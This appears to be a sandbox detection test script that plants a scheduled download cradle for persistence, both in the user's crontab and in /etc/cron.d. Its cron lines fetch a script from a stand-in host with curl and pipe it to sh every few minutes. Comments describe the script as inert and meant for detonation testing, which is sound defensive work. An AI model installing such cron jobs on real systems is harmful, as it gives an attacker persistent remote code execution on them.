#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: scheduled download cradle in the user's crontab (T1053.003).
# Inert: the job is only written, never run during the detonation, and its URL is a name only the
# fake resolver answers; the system cron directory is refused to the sandbox user.
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsS http://update.example.test/u.sh | sh >/dev/null 2>&1') | crontab -
crontab -l 2>/dev/null | tail -n 1
# Where the crontab tool is missing, the spool directory is written directly.
echo '*/10 * * * * root curl -fsS http://update.example.test/u.sh | sh' > /etc/cron.d/0hourly-update 2>/dev/null ||
  echo "cron.d: refused"
exit 0
